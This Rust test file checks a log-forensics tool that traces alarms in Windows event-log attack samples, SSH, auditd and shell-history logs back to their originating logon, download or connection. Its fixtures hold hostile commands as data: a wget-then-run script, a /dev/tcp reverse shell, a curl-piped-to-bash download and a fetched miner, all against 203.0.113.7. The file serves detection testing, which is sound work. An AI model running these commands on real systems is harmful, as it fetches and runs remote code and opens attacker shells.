//! Causality chains and scope on real logs: EVTX attack samples of the shared corpus
//! (EVTX-ATTACK-SAMPLES, GPL-3.0: read in place, never copied), parsed by
//! riposte-artifacts, alarms raised by the bundled Sigma rules where one fires on the
//! event, else an alarm pointing at the event under test.
//!
//! The expected chains were established independently of both crates: every record of
//! each sample was dumped with python-evtx 0.8.1 (`Evtx.Evtx(path).records()`, the
//! `EventData` of each record's XML), and the ancestry read off by hand:
//! - Sysmon 1 `ProcessGuid` → the `ParentProcessGuid` of the child; a parent whose own
//!   Sysmon 1 is not in the log is known only from the child's `ParentImage` /
//!   `ParentProcessId`;
//! - Security 4688 `ProcessId` (the creator, hex) → the 4688 whose `NewProcessId` it is;
//!   `TargetLogonId` (4688 version 2: the new process's session) → the 4624 with that
//!   `TargetLogonId`, whose `IpAddress` and `LogonType` give the origin;
//! - Sysmon 3 (`ProcessGuid`, `Initiated`, the peer) and Sysmon 11 (`TargetFilename`,
//!   `Image`) of the chain's processes, before the alarm's event.
//!
//! The record ids (`EventRecordID`) below are those of the dumps.

use chrono::{TimeZone, Utc};
use riposte_artifacts::{ArtifactContext, open_artifact, parser_for};
use riposte_detect::chain::MAX_DEPTH;
use riposte_detect::{Detector, ShellHistory, Sigma, SigmaRules, StreamDetector, chains, scope};
use riposte_model::{
    Alarm, CausalityChain, Correlation, Event, IpLocality, LinkKind, LinkRelation, OriginKind,
    Severity,
};
use std::path::PathBuf;
use std::sync::OnceLock;

fn corpus() -> PathBuf {
    let dir = std::env::var_os("RIPOSTE_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus")
        });
    assert!(
        dir.join("evtx").is_dir(),
        "test corpus not found at {}: set RIPOSTE_CORPUS to the shared corpus directory",
        dir.display()
    );
    dir
}

/// The bundled Sigma rules, loaded once.
fn sigma() -> &'static Sigma {
    static SIGMA: OnceLock<Sigma> = OnceLock::new();
    SIGMA.get_or_init(|| {
        let dir = riposte_detect::sigma::bundled_dir(None).expect("the bundled rules");
        Sigma::new(SigmaRules::load(&[dir]).expect("the bundled rules load"))
    })
}

fn parse(
    bytes: Vec<u8>,
    original_path: &str,
    host: &str,
    modified: Option<chrono::DateTime<Utc>>,
) -> Vec<Event> {
    let parser = parser_for(original_path).expect("a parser claims the path");
    let ctx = ArtifactContext {
        host: host.into(),
        original_path: original_path.into(),
        modified,
    };
    parser
        .parse(
            &ctx,
            open_artifact(std::io::Cursor::new(bytes)).expect("in memory"),
        )
        .map(|r| r.expect("every record of the sample parses"))
        .collect()
}

fn evtx(relative: &str) -> Vec<Event> {
    let path = corpus().join("evtx").join(relative);
    let bytes = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    parse(
        bytes,
        r"C:\Windows\System32\winevt\Logs\sample.evtx",
        "victim",
        None,
    )
}

fn position(events: &[Event], record: u64) -> u64 {
    events
        .iter()
        .position(|e| e.origin.record == Some(record))
        .unwrap_or_else(|| panic!("no record {record}")) as u64
}

fn alarm_on(title: &str, refs: Vec<u64>) -> Alarm {
    Alarm {
        detector: "test".into(),
        title: title.into(),
        description: String::new(),
        severity: Severity::High,
        mitre: Vec::new(),
        event_refs: refs,
        rule_id: None,
        files: Vec::new(),
        hunting: false,
    }
}

/// The chain ending on record `record`, and the record ids of its links (`None`: a
/// parent known only from its child's event).
fn chain_to<'c>(
    chains: &'c [CausalityChain],
    events: &[Event],
    record: u64,
) -> (&'c CausalityChain, Vec<Option<u64>>) {
    let pos = position(events, record);
    let chain = chains
        .iter()
        .find(|c| c.links.last().and_then(|l| l.event) == Some(pos))
        .unwrap_or_else(|| panic!("no chain ends on record {record}"));
    let records = chain
        .links
        .iter()
        .map(|l| l.event.and_then(|e| events[e as usize].origin.record))
        .collect();
    (chain, records)
}

fn record_of(events: &[Event], pos: Option<u64>) -> Option<u64> {
    pos.and_then(|p| events[p as usize].origin.record)
}

/// Sysmon GUID ancestry six processes deep: python.exe (16386, parent cmd.exe pid 3976
/// whose start is not logged) → rundll32 ieframe.dll,OpenURL (16388) → cmd.exe (16389) →
/// rundll32 url.dll,FileProtocolHandler calc.hta (16395) → mshta.exe (16396) → calc.exe
/// (16397). Two Sigma rules fire on mshta.exe: both are listed on its one chain.
#[test]
fn sysmon_guid_ancestry_from_the_alarm_to_the_first_logged_process() {
    let events =
        evtx("Execution/exec_sysmon_1_11_lolbin_rundll32_openurl_FileProtocolHandler.evtx");
    let mshta = position(&events, 16396);
    let mut alarms = sigma().detect(&events);
    let on_mshta: Vec<u64> = (0..alarms.len() as u64)
        .filter(|&i| alarms[i as usize].event_refs.contains(&mshta))
        .collect();
    assert_eq!(on_mshta.len(), 2, "two bundled rules fire on mshta.exe");
    alarms.push(alarm_on("calc", vec![position(&events, 16397)]));
    let chains = chains(&alarms, &events);

    let (chain, records) = chain_to(&chains, &events, 16396);
    assert_eq!(
        records,
        [
            None,
            Some(16386),
            Some(16388),
            Some(16389),
            Some(16395),
            Some(16396)
        ]
    );
    assert_eq!(chain.alarms, on_mshta);
    assert_eq!(chain.origin.kind, OriginKind::Process);
    let top = &chain.links[0];
    assert_eq!(
        (top.pid.as_deref(), top.kind),
        (Some("3976"), LinkKind::Process)
    );
    assert_eq!(top.process.as_deref(), Some(r"C:\Windows\System32\cmd.exe"));
    assert!(
        chain.links[..5]
            .iter()
            .all(|l| l.relation == Some(LinkRelation::ParentOf))
    );
    assert_eq!(chain.links[5].relation, None);
    assert!(chain.context.is_empty(), "{:?}", chain.context);
    assert!(!chain.truncated);

    let (calc, records) = chain_to(&chains, &events, 16397);
    assert_eq!(records.len(), 7);
    assert_eq!(records[5..], [Some(16396), Some(16397)]);
    assert!(
        calc.summary
            .ends_with(r#"→ "C:\Windows\System32\calc.exe" (alarm: calc)"#),
        "{}",
        calc.summary
    );
}

/// 4688 (version 2) notepad.exe, record 21374: created by WmiPrvSE.exe (pid 0xe8c, not
/// logged) in logon session 0x82215a (`TargetLogonId`), opened by the 4624 of record
/// 21373: a network logon (type 3) of Administrator from 192.168.1.219. The creator's own
/// session (`SubjectLogonId` 0x3e4, NETWORK SERVICE) has no 4624.
#[test]
fn a_4688_reaches_the_network_logon_and_its_source_address() {
    let events = evtx("Privilege Escalation/NTLM2SelfRelay-med0x2e-security_4624_4688.evtx");
    let notepad = position(&events, 21374);
    let alarms = sigma().detect(&events);
    let wmi = alarms
        .iter()
        .position(|a| a.event_refs == [notepad])
        .expect("a bundled rule fires on the WmiPrvSE child");
    let chains = chains(&alarms, &events);
    let (chain, records) = chain_to(&chains, &events, 21374);
    assert_eq!(records, [Some(21373), None, Some(21374)]);
    assert_eq!(chain.alarms, [wmi as u64]);
    let o = &chain.origin;
    assert_eq!(o.kind, OriginKind::Logon);
    assert_eq!(record_of(&events, o.event), Some(21373));
    assert_eq!(o.remote_ip.as_deref(), Some("192.168.1.219"));
    assert_eq!(o.logon_type.as_deref(), Some("3"));
    assert_eq!(o.user.as_deref(), Some("Administrator"));
    assert_eq!(chain.links[0].relation, Some(LinkRelation::LogonSession));
    assert_eq!(chain.links[1].pid.as_deref(), Some("3724"));
    assert_eq!(chain.links[1].user.as_deref(), Some("WIND10$"));
    assert!(
        chain.summary.starts_with(
            "Network logon (type 3) from 192.168.1.219 as Administrator → WmiPrvSE.exe (pid 3724"
        ),
        "{}",
        chain.summary
    );
    assert!(
        chain
            .summary
            .ends_with("→ notepad.exe (alarm: WmiPrvSE Spawned A Process)")
    );
}

/// 4688 version 1 (no `TargetLogonId`): tasklist.exe (566839, pid 0x970) ← cmd.exe
/// (566837, `NewProcessId` 0xbcc) ← pid 0x33c, whose creation is not logged. Their
/// session is SYSTEM's (0x3e7): no logon. The task created over the network (4698,
/// 566836, `SubjectLogonId` 0x17e2d2) belongs to the 4624 of 566835.
#[test]
fn a_4688_pid_chain_and_a_security_event_in_its_logon_session() {
    let events = evtx("Lateral Movement/LM_ScheduledTask_ATSVC_target_host.evtx");
    let alarms = [
        alarm_on("tasklist", vec![position(&events, 566839)]),
        alarm_on("task", vec![position(&events, 566836)]),
    ];
    let chains = chains(&alarms, &events);
    let (chain, records) = chain_to(&chains, &events, 566839);
    assert_eq!(records, [None, Some(566837), Some(566839)]);
    assert_eq!(chain.links[0].pid.as_deref(), Some("828"));
    assert_eq!(chain.links[1].pid.as_deref(), Some("3020"));
    assert_eq!(chain.origin.kind, OriginKind::Process);
    let (task, records) = chain_to(&chains, &events, 566836);
    assert_eq!(records, [Some(566835), Some(566836)]);
    assert_eq!(task.origin.kind, OriginKind::Logon);
    assert_eq!(task.links[0].relation, Some(LinkRelation::LogonSession));
    assert_eq!(task.origin.remote_ip, None, "this 4624 logs no address");
}

/// cmd.exe (896) ← WMIC.exe (892, `/format:` an https URL) ← cmd.exe pid 2940 (not
/// logged). WMIC connected to 45.76.12.27:443 at 16:49:08.208 (895), before cmd.exe
/// started (16:49:08.422), and to 105.73.6.105:80 after it (897): only the first is a
/// candidate origin.
#[test]
fn a_connection_by_an_ancestor_before_the_alarm_is_the_origin() {
    let events = evtx("Execution/exec_wmic_xsl_internet_sysmon_3_1_11.evtx");
    let alarms = [alarm_on("cmd from wmic", vec![position(&events, 896)])];
    let chains = chains(&alarms, &events);
    let (chain, records) = chain_to(&chains, &events, 896);
    assert_eq!(records, [None, Some(892), Some(896)]);
    assert_eq!(chain.context.len(), 1, "{:?}", chain.context);
    let o = &chain.origin;
    assert_eq!(o.kind, OriginKind::NetworkConnection);
    assert_eq!(record_of(&events, o.event), Some(895));
    assert_eq!(o.remote_ip.as_deref(), Some("45.76.12.27"));
    assert_eq!(o.link, Some(1));
    assert_eq!(
        chain.summary,
        r#"WMIC.exe connected to 45.76.12.27:443 → "C:\Windows\System32\cmd.exe" (alarm: cmd from wmic)"#
    );
}

/// wscript.exe (4865) ← rundll32 (4864) ← rundll32 (4863) ← control.exe (4861, opening
/// `C:\Users\IEUser\Downloads\Invoice@0582.cpl`) ← Explorer (pid 4600, not logged), which
/// wrote that file into the Downloads folder six seconds earlier (Sysmon 11, 4860).
#[test]
fn a_file_downloaded_then_opened_is_the_origin() {
    let events = evtx("Execution/sysmon_1_11_rundll32_cpl_ostap.evtx");
    let alarms = sigma().detect(&events);
    let wscript = position(&events, 4865);
    assert!(alarms.iter().any(|a| a.event_refs == [wscript]));
    let chains = chains(&alarms, &events);
    let (chain, records) = chain_to(&chains, &events, 4865);
    assert_eq!(
        records,
        [None, Some(4861), Some(4863), Some(4864), Some(4865)]
    );
    let o = &chain.origin;
    assert_eq!(o.kind, OriginKind::FileDownload);
    assert_eq!(record_of(&events, o.event), Some(4860));
    assert_eq!(o.link, Some(1));
    assert_eq!(o.description, "Invoice@0582.cpl downloaded by Explorer.EXE");
    assert!(chain.summary.starts_with(
        r#"Invoice@0582.cpl downloaded by Explorer.EXE → "C:\Windows\System32\control.exe""#
    ));
}

/// whoami (8119) ← cmd (8116) ← powershell.exe pid 816 (not logged), which took a
/// connection from 10.0.2.13 (Sysmon 3, `Initiated` false, 8118) before whoami ran.
#[test]
fn an_incoming_connection_to_an_ancestor_is_the_origin() {
    let events = evtx("Lateral Movement/powercat_revShell_sysmon_1_3.evtx");
    let alarms = sigma().detect(&events);
    let chains = chains(&alarms, &events);
    let (chain, records) = chain_to(&chains, &events, 8119);
    assert_eq!(records, [None, Some(8116), Some(8119)]);
    assert_eq!(chain.origin.kind, OriginKind::NetworkConnection);
    assert_eq!(record_of(&events, chain.origin.event), Some(8118));
    assert_eq!(chain.origin.remote_ip.as_deref(), Some("10.0.2.13"));
    assert!(
        chain
            .origin
            .description
            .contains("accepted a connection from 10.0.2.13")
    );
}

const OPENSSH: &str = "linux-logs/loghub/OpenSSH/OpenSSH_2k.log";

/// loghub's OpenSSH log (research licence: read in place) has one accepted logon: fztu
/// from 119.137.62.142 at Dec 10 09:32:20 (sshd[24680]), whose session closes at 09:45:06
/// (`pam_unix(sshd:session): session closed`, same pid). Appended: two sudo lines of fztu,
/// one inside that session and one after it. fztu's history (crafted, timestamped) runs,
/// inside the session, a wget of x.sh then `bash /tmp/x.sh`, and after the session a
/// reverse shell.
fn linux_events() -> Vec<Event> {
    let mut auth = std::fs::read(corpus().join(OPENSSH)).expect("the OpenSSH log");
    auth.extend_from_slice(
        b"\nDec 10 09:40:01 LabSZ sudo:     fztu : TTY=pts/0 ; PWD=/home/fztu ; USER=root ; COMMAND=/usr/bin/id\n\
          Dec 10 09:50:30 LabSZ sudo:     fztu : TTY=pts/1 ; PWD=/home/fztu ; USER=root ; COMMAND=/usr/bin/id\n",
    );
    let modified = Utc.with_ymd_and_hms(2016, 1, 4, 0, 0, 0).single();
    let mut events = parse(auth, "/var/log/auth.log", "labsz", modified);
    // 1449740100 = 2015-12-10 09:35:00 UTC; 1449741000 = 09:50:00.
    let history = "#1449740100\nwget http://203.0.113.7/x.sh -O /tmp/x.sh\n\
                   #1449740160\nbash /tmp/x.sh\n\
                   #1449741000\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
    events.extend(parse(
        history.as_bytes().to_vec(),
        "/home/fztu/.bash_history",
        "labsz",
        modified,
    ));
    events
}

#[test]
fn linux_commands_lead_back_to_the_ssh_logon_that_was_open() {
    let events = linux_events();
    let find =
        |pred: &dyn Fn(&Event) -> bool| events.iter().position(pred).expect("the event") as u64;
    let logon = find(&|e| e.message.starts_with("SSH logon by fztu"));
    let sudo_in = find(&|e| e.attr("tty") == Some("pts/0"));
    let sudo_after = find(&|e| e.attr("tty") == Some("pts/1"));
    let run = find(&|e| e.attr("cmd") == Some("bash /tmp/x.sh"));
    let wget = find(&|e| e.attr("cmd").is_some_and(|c| c.starts_with("wget")));
    let revshell = find(&|e| e.attr("cmd").is_some_and(|c| c.contains("/dev/tcp/")));

    let mut alarms = ShellHistory.detect(&events);
    let detected: Vec<u64> = alarms.iter().flat_map(|a| a.event_refs.clone()).collect();
    assert!(
        detected.contains(&revshell),
        "the reverse shell raises an alarm"
    );
    alarms.push(alarm_on("sudo", vec![sudo_in, sudo_after]));
    alarms.push(alarm_on("ran a downloaded script", vec![run]));
    let chains = chains(&alarms, &events);

    let ends_on = |pos: u64| {
        chains
            .iter()
            .find(|c| c.links.last().and_then(|l| l.event) == Some(pos))
    };
    for pos in [sudo_in, run] {
        let chain = ends_on(pos).expect("a chain to the SSH logon");
        let firsts: Vec<Option<u64>> = chain.links.iter().map(|l| l.event).collect();
        assert_eq!(firsts, [Some(logon), Some(pos)]);
        assert_eq!(chain.origin.kind, OriginKind::Logon);
        assert_eq!(chain.origin.remote_ip.as_deref(), Some("119.137.62.142"));
        assert_eq!(chain.origin.user.as_deref(), Some("fztu"));
        assert!(
            chain
                .summary
                .starts_with("SSH logon from 119.137.62.142 as fztu → "),
            "{}",
            chain.summary
        );
    }
    assert_eq!(
        ends_on(sudo_in).map(|c| c.summary.as_str()),
        Some(
            "SSH logon from 119.137.62.142 as fztu → fztu ran sudo as root: /usr/bin/id (alarm: sudo)"
        )
    );
    let run_chain = ends_on(run).expect("the chain of bash /tmp/x.sh");
    assert_eq!(run_chain.context.len(), 1);
    assert_eq!(run_chain.context[0].kind, OriginKind::FileDownload);
    assert_eq!(run_chain.context[0].event, Some(wget));
    // After the session closed nothing is open: no logon is claimed.
    for pos in [sudo_after, revshell] {
        assert!(
            ends_on(pos).is_none_or(|c| c.links.iter().all(|l| l.kind != LinkKind::Logon)),
            "event {pos} is outside any session"
        );
    }
}

#[test]
fn scope_lists_hosts_users_addresses_files_and_processes() {
    let events = evtx("Privilege Escalation/NTLM2SelfRelay-med0x2e-security_4624_4688.evtx");
    let alarms = sigma().detect(&events);
    let chains = chains(&alarms, &events);
    let s = scope(&alarms, &events, &chains, &Correlation::default());
    // The alarms' events: 1102 (21365), 4634 (21375), 4688 (21374); the chain adds the
    // 4624 of 21373. Nothing else.
    assert_eq!(s.events, 4);
    let hosts: Vec<(&str, u64, u64)> = s
        .hosts
        .iter()
        .map(|h| (h.value.as_str(), h.events, h.alarm_events))
        .collect();
    assert_eq!(hosts, [("victim", 4, 3)]);
    let users: Vec<(&str, u64, u64)> = s
        .users
        .iter()
        .map(|u| (u.value.as_str(), u.events, u.alarm_events))
        .collect();
    // Administrator: 4688 (TargetUserName), 4634, 4624; WIND10$: the 4688's subject;
    // the 1102's subject is another account.
    assert_eq!(users[0], ("Administrator", 3, 2));
    assert!(users.contains(&("WIND10$", 1, 1)), "{users:?}");
    let ips: Vec<(&str, IpLocality, u64)> = s
        .ips
        .iter()
        .map(|i| (i.ip.as_str(), i.locality, i.events))
        .collect();
    assert_eq!(ips, [("192.168.1.219", IpLocality::Internal, 1)]);
    let files: Vec<&str> = s.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(
        files,
        [
            r"C:\Windows\System32\notepad.exe",
            r"C:\Windows\System32\wbem\WmiPrvSE.exe"
        ]
    );
    let processes: Vec<(&str, u64)> = s
        .processes
        .iter()
        .map(|p| (p.value.as_str(), p.alarm_events))
        .collect();
    assert_eq!(
        processes,
        [
            (r"C:\Windows\System32\notepad.exe", 1),
            (r"C:\Windows\System32\wbem\WmiPrvSE.exe", 1)
        ]
    );
}

#[test]
fn every_corpus_sample_chains_within_bounds() {
    // Every EVTX sample, every event an alarm: no panic, bounded, links end on the event.
    let files = evtx_samples();
    assert!(files.len() > 200, "{} samples", files.len());
    let (mut total, mut with_logon, mut remote) = (0, 0, 0);
    for path in files {
        let bytes = std::fs::read(&path).expect("readable");
        let parser = parser_for("x.evtx").expect("evtx");
        let ctx = ArtifactContext {
            host: "h".into(),
            original_path: "x.evtx".into(),
            modified: None,
        };
        let events: Vec<Event> = parser
            .parse(
                &ctx,
                open_artifact(std::io::Cursor::new(bytes)).expect("in memory"),
            )
            .filter_map(Result::ok)
            .collect();
        // One alarm per event (an alarm's events are walked up to a bound).
        let every: Vec<Alarm> = (0..events.len() as u64)
            .map(|i| alarm_on("every", vec![i]))
            .collect();
        for chain in chains(&every, &events) {
            total += 1;
            assert!(chain.links.len() <= MAX_DEPTH + 1, "{}", path.display());
            assert!(chain.links.last().is_some_and(|l| l.event.is_some()));
            if chain.links[0].kind == LinkKind::Logon {
                with_logon += 1;
            }
            if chain.origin.kind == OriginKind::Logon && chain.origin.remote_ip.is_some() {
                remote += 1;
            }
        }
    }
    println!("{total} chains, {with_logon} in a logon session, {remote} from a remote logon");
    assert!(remote > 0 && with_logon >= remote);
}

/// An audit log written for the test in auditd's raw format (enriched names after
/// `\x1d`): sshd (pid 900) logs bob in from 198.51.100.7 as session 5; bash (1001, ppid
/// 900), then curl fetching /tmp/miner (1002, ppid 1001), then /tmp/miner (1003, ppid
/// 1001), all in session 5.
#[test]
fn audit_processes_lead_back_through_ppid_and_session_to_the_login() {
    let log = "\
type=USER_LOGIN msg=audit(1700000000.100:10): pid=900 uid=0 auid=1000 ses=5 msg='op=login acct=\"bob\" exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.7 terminal=/dev/pts/0 res=success'
type=SYSCALL msg=audit(1700000010.000:11): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=1001 auid=1000 uid=1000 tty=pts0 ses=5 comm=\"bash\" exe=\"/usr/bin/bash\" key=(null)\x1dAUID=\"bob\" UID=\"bob\"
type=EXECVE msg=audit(1700000010.000:11): argc=1 a0=\"-bash\"
type=SYSCALL msg=audit(1700000020.000:12): arch=c000003e syscall=59 success=yes exit=0 ppid=1001 pid=1002 auid=1000 uid=1000 tty=pts0 ses=5 comm=\"curl\" exe=\"/usr/bin/curl\" key=(null)\x1dAUID=\"bob\" UID=\"bob\"
type=EXECVE msg=audit(1700000020.000:12): argc=4 a0=\"curl\" a1=\"-o\" a2=\"/tmp/miner\" a3=\"http://203.0.113.7/miner\"
type=SYSCALL msg=audit(1700000030.000:13): arch=c000003e syscall=59 success=yes exit=0 ppid=1001 pid=1003 auid=1000 uid=1000 tty=pts0 ses=5 comm=\"miner\" exe=\"/tmp/miner\" key=(null)\x1dAUID=\"bob\" UID=\"bob\"
type=EXECVE msg=audit(1700000030.000:13): argc=1 a0=\"/tmp/miner\"
";
    let events = parse(
        log.as_bytes().to_vec(),
        "/var/log/audit/audit.log",
        "web1",
        None,
    );
    assert_eq!(events.len(), 4);
    let serial = |s: &str| {
        events
            .iter()
            .position(|e| e.attr("audit_serial") == Some(s))
            .expect("the record") as u64
    };
    let (login, bash, curl, miner) = (serial("10"), serial("11"), serial("12"), serial("13"));
    let chains = chains(&[alarm_on("miner", vec![miner])], &events);
    assert_eq!(chains.len(), 1);
    let chain = &chains[0];
    let links: Vec<Option<u64>> = chain.links.iter().map(|l| l.event).collect();
    assert_eq!(links, [Some(login), None, Some(bash), Some(miner)]);
    assert_eq!(chain.links[1].pid.as_deref(), Some("900"));
    assert_eq!(chain.origin.kind, OriginKind::Logon);
    assert_eq!(chain.origin.remote_ip.as_deref(), Some("198.51.100.7"));
    assert_eq!(chain.origin.user.as_deref(), Some("bob"));
    assert_eq!(chain.context.len(), 1);
    assert_eq!(chain.context[0].event, Some(curl));
    assert_eq!(chain.context[0].link, Some(3));
}

/// The story drawn from a stream (the chain events kept as they pass, the alarms' events
/// fetched at the end) is the story over the whole timeline, on every EVTX sample.
#[test]
fn the_streamed_story_is_the_story_over_the_whole_timeline() {
    use riposte_detect::story::StoryBuilder;
    use riposte_detect::{Batch, CorrelationConfig, correlate};
    let mut files = evtx_samples();
    files.sort();
    let mut chained = 0;
    for path in files {
        let bytes = std::fs::read(&path).expect("readable");
        let mut events = parse(bytes, "x.evtx", "h", None);
        events.sort_by_key(|e| e.time.map_or(i64::MAX, |t| t.timestamp_micros()));
        // Every seventh event an alarm, and an alert about the user of the middle one.
        let alarms: Vec<Alarm> = (0..events.len() as u64)
            .step_by(7)
            .map(|i| alarm_on("every seventh", vec![i]))
            .collect();
        let mut alert = guardduty_alert();
        alert.observables = Default::default();
        if let Some(middle) = events.get(events.len() / 2) {
            alert.time = middle.time.unwrap_or(alert.time);
            alert.observables.username = middle.attr("username").map(str::to_string);
        }
        let config = CorrelationConfig::default();
        let whole_correlation = correlate(&alert, &events, &config);
        let whole_chains = chains(&alarms, &events);
        let whole_scope = scope(&alarms, &events, &whole_chains, &whole_correlation);

        let mut builder = StoryBuilder::new(Some(&alert), &config, usize::MAX);
        let ids: Vec<u64> = (0..events.len() as u64).collect();
        for (ids, chunk) in ids.chunks(100).zip(events.chunks(100)) {
            builder.observe(Batch::new(ids, chunk));
        }
        let streamed = builder
            .finish(&alarms, |wanted| {
                Ok::<_, ()>(
                    wanted
                        .iter()
                        .map(|&id| (id, events[id as usize].clone()))
                        .collect(),
                )
            })
            .expect("fetched");
        let json = |v: &dyn erased::Json| v.value();
        assert_eq!(
            json(&whole_chains),
            json(&streamed.chains),
            "{}",
            path.display()
        );
        assert_eq!(
            json(&whole_scope),
            json(&streamed.scope),
            "{}",
            path.display()
        );
        assert_eq!(
            json(&whole_correlation),
            json(streamed.correlation.as_ref().expect("an alert")),
            "{}",
            path.display()
        );
        chained += whole_chains.len();
    }
    assert!(chained > 100, "{chained} chains compared");
}

/// Every EVTX sample of the corpus.
fn evtx_samples() -> Vec<PathBuf> {
    let mut files = Vec::new();
    let mut stack = vec![corpus().join("evtx")];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("readable") {
            let path = entry.expect("an entry").path();
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|x| x == "evtx") {
                files.push(path);
            }
        }
    }
    files
}

/// A real GuardDuty finding (its observables are replaced by the tests).
fn guardduty_alert() -> riposte_model::Alert {
    let path = corpus().join("alerts/guardduty/panther-ec2-sshbruteforce.json");
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let json: serde_json::Value = serde_json::from_str(&text).expect("JSON");
    let parser = riposte_sources::parser(riposte_model::AlertSource::GuardDuty).expect("a parser");
    parser
        .parse(&json, Utc::now())
        .expect("the sample parses")
        .remove(0)
}

mod erased {
    /// Anything serializable, compared as JSON.
    pub trait Json {
        fn value(&self) -> serde_json::Value;
    }
    impl<T: serde::Serialize> Json for T {
        fn value(&self) -> serde_json::Value {
            serde_json::to_value(self).expect("serializable")
        }
    }
}

/// A root shell opened with sudo by a user who logged on over SSH: root's history (no
/// timestamps, as bash writes it by default) is linked through the sudo line to that
/// logon. The OpenSSH log's one accepted logon is fztu's (09:32:20–09:45:06); appended,
/// fztu's `sudo -i` inside it (logged as the shell it runs) and, in root's history, a
/// download piped into a shell.
#[test]
fn root_history_leads_through_the_sudo_shell_to_the_logon_that_opened_it() {
    let mut auth = std::fs::read(corpus().join(OPENSSH)).expect("the OpenSSH log");
    auth.extend_from_slice(
        b"\nDec 10 09:41:00 LabSZ sudo:     fztu : TTY=pts/0 ; PWD=/home/fztu ; USER=root ; COMMAND=/bin/bash\n",
    );
    let modified = Utc.with_ymd_and_hms(2016, 1, 4, 0, 0, 0).single();
    let mut events = parse(auth, "/var/log/auth.log", "labsz", modified);
    events.extend(parse(
        b"id\ncurl -s http://203.0.113.7/y.sh | bash\n".to_vec(),
        "/root/.bash_history",
        "labsz",
        modified,
    ));
    let find =
        |pred: &dyn Fn(&Event) -> bool| events.iter().position(pred).expect("the event") as u64;
    let logon = find(&|e| e.message.starts_with("SSH logon by fztu"));
    let sudo = find(&|e| e.attr("cmd") == Some("/bin/bash"));
    let curl = find(&|e| e.attr("cmd").is_some_and(|c| c.starts_with("curl")));
    assert!(
        events[curl as usize].time.is_none(),
        "history without timestamps"
    );
    let alarms = ShellHistory.detect(&events);
    assert!(
        alarms.iter().any(|a| a.event_refs.contains(&curl)),
        "the download piped into a shell raises an alarm"
    );
    let found = chains(&alarms, &events);
    let chain = found
        .iter()
        .find(|c| c.links.last().and_then(|l| l.event) == Some(curl))
        .expect("a chain to root's command");
    let links: Vec<Option<u64>> = chain.links.iter().map(|l| l.event).collect();
    assert_eq!(links, [Some(logon), Some(sudo), Some(curl)]);
    assert_eq!(chain.origin.user.as_deref(), Some("fztu"));
    assert!(
        chain.summary.starts_with(
            "SSH logon from 119.137.62.142 as fztu → fztu ran sudo as root: /bin/bash → "
        ),
        "{}",
        chain.summary
    );

    // Two sudo shells and no time on the command: which one is not known, so no claim.
    let mut twice = std::fs::read(corpus().join(OPENSSH)).expect("the OpenSSH log");
    twice.extend_from_slice(
        b"\nDec 10 09:41:00 LabSZ sudo:     fztu : TTY=pts/0 ; PWD=/home/fztu ; USER=root ; COMMAND=/bin/bash\n\
          Dec 10 09:43:00 LabSZ sudo:     fztu : TTY=pts/2 ; PWD=/home/fztu ; USER=root ; COMMAND=/usr/bin/su -\n",
    );
    let mut events = parse(twice, "/var/log/auth.log", "labsz", modified);
    events.extend(parse(
        b"curl -s http://203.0.113.7/y.sh | bash\n".to_vec(),
        "/root/.bash_history",
        "labsz",
        modified,
    ));
    let alarms = ShellHistory.detect(&events);
    let found = chains(&alarms, &events);
    assert!(
        found
            .iter()
            .all(|c| c.links.iter().all(|l| l.kind != LinkKind::Logon)),
        "{found:#?}"
    );
}
